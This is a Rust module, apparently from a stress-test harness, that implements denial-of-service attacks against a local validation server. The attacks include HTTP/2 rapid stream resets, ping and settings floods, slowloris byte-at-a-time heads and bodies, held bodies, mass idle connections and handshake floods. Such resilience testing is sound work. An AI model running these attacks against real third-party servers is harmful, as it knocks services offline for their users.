//! The attacks.

use std::io;
use std::net::Ipv4Addr;
use std::pin::Pin;
use std::sync::Arc;
use std::time::Duration;

use bytes::Bytes;
use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _};
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};

use crate::h2;
use crate::target::{Tally, Target, connect};
use crate::tls::Http;

/// An attack; it runs until it is dropped.
pub type Attack = fn(Arc<Target>, Arc<Tally>) -> Pin<Box<dyn Future<Output = ()> + Send>>;

/// An attack with its name.
pub struct Row {
    pub name: &'static str,
    pub attack: Attack,
}

macro_rules! rows {
    ($($name:literal => $attack:expr,)*) => {
        /// All rows, in the order of the table.
        pub const ALL: &[Row] = &[$(Row { name: $name, attack: |target, tally| Box::pin($attack(target, tally)) },)*];
    };
}

rows! {
    "nothing" => |_, _| std::future::pending(),
    "http2: 5 x 250 one-byte streams" => |target, tally| many(5, target, tally, one_byte_streams),
    "http2: streams opened and reset" => |target, tally| many(4, target, tally, resets),
    "http2: pings and settings" => |target, tally| many(4, target, tally, control_frames),
    "bodies: 8 of 8 MiB held" => |target, tally| many(8, target, tally, held_body),
    "bodies: 64 of 8 MiB declared" => |target, tally| many(64, target, tally, declared_body),
    "bodies: 256, a byte at a time" => |target, tally| many(256, target, tally, slow_body),
    "bodies: 100 whole ones of 7 MiB" => |target, tally| many(2, target, tally, large_bodies),
    "heads: 512, a byte at a time" => |target, tally| many(512, target, tally, slow_head),
    "idle: 1,024 connections" => |target, tally| many(1024, target, tally, idle),
    "idle: 1,024 after the handshake" => |target, tally| many(1024, target, tally, idle_tls),
    "idle: 1,024 after a request" => |target, tally| many(1024, target, tally, idle_http1),
    "idle: 1,024 so, another address" => |target, tally| many(1024, target, tally, idle_http1_elsewhere),
    "idle: 1,024 of HTTP/2" => |target, tally| many(1024, target, tally, idle_http2),
    "idle: 1,024 from 64 addresses" => |target, tally| many(1024, target, tally, idle_elsewhere),
    "admin: 1,024 idle connections" => |target, tally| many(1024, target, tally, admin_idle),
    "admin: 512 slow heads" => |target, tally| many(512, target, tally, admin_slow_head),
    "admin: connections without pause" => |target, tally| many(16, target, tally, admin_connections),
    "handshakes without pause" => |target, tally| many(32, target, tally, handshakes),
    "reviews without pause" => |target, tally| many(8, target, tally, reviews),
    "objects: 8 of 3 MiB without pause" => |target, tally| many(8, target, tally, largest_objects),
    "objects: 8 costly without pause" => |target, tally| many(8, target, tally, costliest_objects),
    "objects: 64 costly at once" => |target, tally| many(8, target, tally, costliest_at_once),
}

/// Pause of an attacker after the server refused it, so that the attack is not only connecting.
const PAUSE: Duration = Duration::from_millis(20);

/// Runs `count` attackers; each restarts after it is cut off.
async fn many<F>(count: u32, target: Arc<Target>, tally: Arc<Tally>, attacker: fn(u32, Arc<Target>, Arc<Tally>) -> F)
where
    F: Future<Output = io::Result<()>> + Send + 'static,
{
    let mut attackers = JoinSet::new();
    for number in 0..count {
        let (target, tally) = (Arc::clone(&target), Arc::clone(&tally));
        attackers.spawn(async move {
            loop {
                // The result of the attacker does not matter.
                let _ = attacker(number, Arc::clone(&target), Arc::clone(&tally)).await;
                sleep(PAUSE).await;
            }
        });
    }
    attackers.join_all().await;
}

/// Reads until the connection ends. Returns whether any bytes arrived.
async fn read_to_end(stream: &mut (impl AsyncRead + Unpin)) -> bool {
    let mut buffer = [0; 4096];
    let mut came = false;
    while let Ok(1..) = stream.read(&mut buffer).await {
        came = true;
    }
    came
}

/// Opens 250 streams, each with one byte of an endless body, and a new one for each that the server ends.
async fn one_byte_streams(_: u32, target: Arc<Target>, tally: Arc<Tally>) -> io::Result<()> {
    let (mut reader, mut writer) = h2::open(&target, None).await?;
    let mut next = 1;
    let mut stream = || {
        let mut frames = h2::frame(h2::HEADERS, h2::END_HEADERS, next, &h2::head("/validate?timeout=30s", None));
        frames.extend(h2::frame(h2::DATA, 0, next, b"{"));
        next += 2;
        tally.tried();
        frames
    };
    for _ in 0..250 {
        writer.bytes(&stream()).await?;
    }
    writer.flush().await?;
    loop {
        let frame = reader.frame().await?;
        match (frame.kind, frame.flags) {
            (h2::SETTINGS, flags) if flags & h2::ACK == 0 => writer.frame(h2::SETTINGS, h2::ACK, 0, &[]).await?,
            (h2::PING, flags) if flags & h2::ACK == 0 => writer.frame(h2::PING, h2::ACK, 0, &[0; 8]).await?,
            (h2::HEADERS, _) => tally.answer(),
            (h2::GOAWAY, _) => return Ok(()),
            (h2::RST_STREAM, _) => writer.bytes(&stream()).await?,
            _ => {}
        }
        writer.flush().await?;
    }
}

/// Resets streams immediately after opening them.
async fn resets(_: u32, target: Arc<Target>, tally: Arc<Tally>) -> io::Result<()> {
    let (mut reader, mut writer) = h2::open(&target, None).await?;
    let reading = tokio::spawn(async move { while reader.frame().await.is_ok() {} });
    let mut next = 1;
    while !reading.is_finished() {
        let mut frames = Vec::new();
        for _ in 0..64 {
            frames.extend(h2::frame(h2::HEADERS, h2::END_HEADERS, next, &h2::head("/validate", None)));
            frames.extend(h2::frame(h2::RST_STREAM, 0, next, &8_u32.to_be_bytes()));
            next += 2;
            tally.tried();
        }
        writer.bytes(&frames).await?;
        writer.flush().await?;
    }
    Ok(())
}

/// Sends frames that the server must answer, without reading the answers.
async fn control_frames(_: u32, target: Arc<Target>, tally: Arc<Tally>) -> io::Result<()> {
    let (_reader, mut writer) = h2::open(&target, None).await?;
    loop {
        let mut frames = Vec::new();
        for _ in 0..64 {
            frames.extend(h2::frame(h2::PING, 0, 0, &[7; 8]));
            frames.extend(h2::frame(h2::SETTINGS, 0, 0, &[]));
            tally.tried();
        }
        timeout(Duration::from_secs(5), writer.bytes(&frames)).await??;
        timeout(Duration::from_secs(5), writer.flush()).await??;
    }
}

/// Returns the head of a review over HTTP/1.1.
fn head(length: usize) -> String {
    format!(
        "POST /validate?timeout=30s HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: {length}\r\n\r\n"
    )
}

const LARGEST: usize = 8 << 20;

/// Sends a body without its last byte.
async fn held_body(_: u32, target: Arc<Target>, tally: Arc<Tally>) -> io::Result<()> {
    tally.tried();
    let mut stream = target.tls(Http::One, None).await?;
    stream.write_all(head(LARGEST).as_bytes()).await?;
    let (mut read, mut write) = tokio::io::split(stream);
    let sending = async {
        write.write_all(&vec![b' '; LARGEST - 1]).await?;
        write.flush().await?;
        std::future::pending::<io::Result<()>>().await
    };
    let answered = tokio::select! {
        failed = sending => return failed,
        answered = read_to_end(&mut read) => answered,
    };
    if answered {
        tally.answer();
    }
    Ok(())
}

/// Sends only the length of a body.
async fn declared_body(_: u32, target: Arc<Target>, tally: Arc<Tally>) -> io::Result<()> {
    tally.tried();
    let mut stream = target.tls(Http::One, None).await?;
    stream.write_all(format!("{}{{", head(LARGEST)).as_bytes()).await?;
    stream.flush().await?;
    if read_to_end(&mut stream).await {
        tally.answer();
    }
    Ok(())
}

/// Sends a body byte by byte.
async fn slow_body(_: u32, target: Arc<Target>, tally: Arc<Tally>) -> io::Result<()> {
    tally.tried();
    let mut stream = target.tls(Http::One, None).await?;
    stream.write_all(head(LARGEST).as_bytes()).await?;
    drip(stream, b" ", &tally).await
}

/// Writes the same bytes repeatedly until there is an answer.
async fn drip(stream: impl AsyncRead + AsyncWrite + Unpin, drop: &[u8], tally: &Tally) -> io::Result<()> {
    let (mut read, mut write) = tokio::io::split(stream);
    let dripping = async {
        loop {
            write.write_all(drop).await?;
            write.flush().await?;
            sleep(Duration::from_millis(200)).await;
        }
    };
    let answered = tokio::select! {
        ended = dripping => return ended,
        answered = read_to_end(&mut read) => answered,
    };
    if answered {
        tally.answer();
    }
    Ok(())
}

/// Sends fifty reviews of 7 MiB at once on one connection.
async fn large_bodies(_: u32, target: Arc<Target>, tally: Arc<Tally>) -> io::Result<()> {
    let mut body = target.review.to_vec();
    body.resize(7 << 20, b' ');
    let body = Bytes::from(body);
    let client = target.client(Http::Two, None).await.map_err(io::Error::other)?;
    let mut posts = JoinSet::new();
    for _ in 0..50 {
        let (mut sender, body) = (client.sibling().expect("HTTP/2"), body.clone());
        tally.tried();
        posts.spawn(async move { sender.post("/validate?timeout=30s", body).await });
    }
    while let Some(posted) = posts.join_next().await {
        if posted.is_ok_and(|posted| posted.is_ok()) {
            tally.answer();
        }
    }
    Ok(())
}

/// Sends a head byte by byte.
async fn slow_head(_: u32, target: Arc<Target>, tally: Arc<Tally>) -> io::Result<()> {
    tally.tried();
    let mut stream = target.tls(Http::One, None).await?;
    stream.write_all(b"POST /validate HTTP/1.1\r\nx: ").await?;
    drip(stream, b"x", &tally).await
}

/// Opens a connection and sends nothing.
async fn idle(_: u32, target: Arc<Target>, tally: Arc<Tally>) -> io::Result<()> {
    tally.tried();
    let mut stream = connect(target.https, None).await?;
    if read_to_end(&mut stream).await {
        tally.answer();
    }
    Ok(())
}

/// Completes the TLS handshake and then sends nothing.
async fn idle_tls(_: u32, target: Arc<Target>, tally: Arc<Tally>) -> io::Result<()> {
    tally.tried();
    let mut stream = target.tls(Http::One, None).await?;
    tally.answer();
    read_to_end(&mut stream).await;
    Ok(())
}

/// Sends one request first, as a good client does.
async fn idle_http1(_: u32, target: Arc<Target>, tally: Arc<Tally>) -> io::Result<()> {
    used_http1(&target, &tally, None).await
}

/// Sends one request first, from another address than the good clients', if the system has one.
async fn idle_http1_elsewhere(_: u32, target: Arc<Target>, tally: Arc<Tally>) -> io::Result<()> {
    used_http1(&target, &tally, cfg!(target_os = "linux").then_some(Ipv4Addr::new(127, 0, 1, 1))).await
}

async fn used_http1(target: &Target, tally: &Tally, from: Option<Ipv4Addr>) -> io::Result<()> {
    tally.tried();
    let mut stream = target.tls(Http::One, from).await?;
    stream.write_all(head(target.review.len()).as_bytes()).await?;
    stream.write_all(&target.review).await?;
    stream.flush().await?;
    if read_to_end(&mut stream).await {
        tally.answer();
    }
    Ok(())
}

/// Opens an idle HTTP/2 connection that answers pings.
async fn idle_http2(_: u32, target: Arc<Target>, tally: Arc<Tally>) -> io::Result<()> {
    held_http2(&target, &tally, None).await
}

/// Opens idle HTTP/2 connections of 64 clients with different addresses, if the system has them.
async fn idle_elsewhere(number: u32, target: Arc<Target>, tally: Arc<Tally>) -> io::Result<()> {
    let host = u8::try_from(2 + number % 64).expect("below 66");
    held_http2(&target, &tally, cfg!(target_os = "linux").then_some(Ipv4Addr::new(127, 0, 1, host))).await
}

async fn held_http2(target: &Target, tally: &Tally, from: Option<Ipv4Addr>) -> io::Result<()> {
    tally.tried();
    let (mut reader, mut writer) = h2::open(target, from).await?;
    tally.answer();
    loop {
        let frame = reader.frame().await?;
        match (frame.kind, frame.flags) {
            (h2::SETTINGS, flags) if flags & h2::ACK == 0 => writer.frame(h2::SETTINGS, h2::ACK, 0, &[]).await?,
            (h2::PING, flags) if flags & h2::ACK == 0 => writer.frame(h2::PING, h2::ACK, 0, &[0; 8]).await?,
            _ => {}
        }
        writer.flush().await?;
    }
}

async fn admin_idle(_: u32, target: Arc<Target>, tally: Arc<Tally>) -> io::Result<()> {
    tally.tried();
    let mut stream = connect(target.admin, None).await?;
    if read_to_end(&mut stream).await {
        tally.answer();
    }
    Ok(())
}

async fn admin_slow_head(_: u32, target: Arc<Target>, tally: Arc<Tally>) -> io::Result<()> {
    tally.tried();
    let mut stream = connect(target.admin, None).await?;
    stream.write_all(b"GET /livez HTTP/1.1\r\nx: ").await?;
    drip(stream, b"x", &tally).await
}

/// Connects, requests the largest page without reading it, and connects again.
async fn admin_connections(_: u32, target: Arc<Target>, tally: Arc<Tally>) -> io::Result<()> {
    for _ in 0..64 {
        tally.tried();
        let mut stream = connect(target.admin, None).await?;
        stream.write_all(b"GET /metrics HTTP/1.1\r\nhost: localhost\r\n\r\n").await?;
    }
    Ok(())
}

async fn handshakes(_: u32, target: Arc<Target>, tally: Arc<Tally>) -> io::Result<()> {
    for _ in 0..64 {
        tally.tried();
        target.tls(Http::Two, None).await?;
        tally.answer();
    }
    Ok(())
}

/// Sends reviews one after the other, as fast as they are answered.
async fn reviews(_: u32, target: Arc<Target>, tally: Arc<Tally>) -> io::Result<()> {
    let mut client = target.client(Http::Two, None).await.map_err(io::Error::other)?;
    loop {
        tally.tried();
        client.post("/validate", target.review.clone()).await.map_err(io::Error::other)?;
        tally.answer();
    }
}

/// Sends objects of the largest size, a different one each time.
async fn largest_objects(number: u32, target: Arc<Target>, tally: Arc<Tally>) -> io::Result<()> {
    judged(number, &target, &tally, &target.largest).await
}

/// Sends the objects within the bounds that are most expensive to judge.
async fn costliest_objects(number: u32, target: Arc<Target>, tally: Arc<Tally>) -> io::Result<()> {
    judged(number, &target, &tally, &target.costliest).await
}

async fn judged(number: u32, target: &Target, tally: &Tally, objects: &[Bytes]) -> io::Result<()> {
    let mut client = target.client(Http::Two, None).await.map_err(io::Error::other)?;
    for object in objects.iter().cycle().skip(number as usize) {
        tally.tried();
        client.post("/validate?timeout=30s", object.clone()).await.map_err(io::Error::other)?;
        tally.answer();
    }
    Ok(())
}

/// Sends eight of these objects at once on each connection.
async fn costliest_at_once(number: u32, target: Arc<Target>, tally: Arc<Tally>) -> io::Result<()> {
    let client = target.client(Http::Two, None).await.map_err(io::Error::other)?;
    let mut posts = JoinSet::new();
    for object in target.costliest.iter().cycle().skip(number as usize) {
        if posts.len() >= 8 {
            posts.join_next().await.expect("there are eight").map_err(io::Error::other)??;
        }
        let (mut sender, object, tally) = (client.sibling().expect("HTTP/2"), object.clone(), Arc::clone(&tally));
        tally.tried();
        posts.spawn(async move {
            sender.post("/validate?timeout=30s", object).await.map_err(io::Error::other)?;
            tally.answer();
            Ok::<_, io::Error>(())
        });
    }
    Ok(())
}
